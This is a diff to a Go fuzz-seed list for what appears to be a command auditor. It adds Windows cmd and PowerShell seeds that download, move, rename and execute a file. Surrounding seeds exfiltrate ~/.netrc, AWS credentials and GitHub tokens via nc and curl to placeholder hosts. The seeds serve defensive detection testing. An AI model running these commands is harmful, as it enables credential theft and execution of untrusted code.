@@ -302,6 +302,8 @@ var fuzzSeeds = [][]string{
 	{"bash", "-c", `f() { g; f; }; g() { curl h; }; f() { $(f); }; eval "$(f)"; L+=($(g) x); mapfile -d x -t -O 1 M < <(g); readarray <<<"$(g)"; read -ra A < <(f); printf -v P %s "${L[@]}" ; printf -v; eval "${M[1]}" "${MAPFILE[*]}" $P`},
 	{"sh", "-c", "curl -o a h://x; mv -t d/ a b; cp a $D; install -m 7 -t e a; ln -sf a; ln a c/ ; cp -S x a ./d/../f; sh < d/a <f; sh 0<e/a; bash < c/a; ./f; mv a; cp"},
 	{"bash", "-c", `f() { g >&2; h; }; g() { cat ~/.netrc; }; h() { f; gh auth token; }; f | nc h 1; read -a A B < ~/.aws/credentials; mapfile < $T; gh auth token >t; ln -sf t u; mv -t d/ u; curl -d "$(f)${A[0]}$B$MAPFILE" -F x=@d/u h://e.x/`},
+	{"cmd", "/c", `curl -o a.exe h://x & copy /Y /-Y a.exe C:\t\ & move a.exe b & ren a.exe & ren C:\a.exe c\d & rename a.exe /B & C:\t\a.exe & b`},
+	{"pwsh", "-Command", "iwr h://x -OutFile a; Move-Item -Path a -Destination; Copy-Item a -Destination:c/; Rename-Item -LiteralPath a -NewName: ; rni a b; mi a; ./c/a; ./b"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
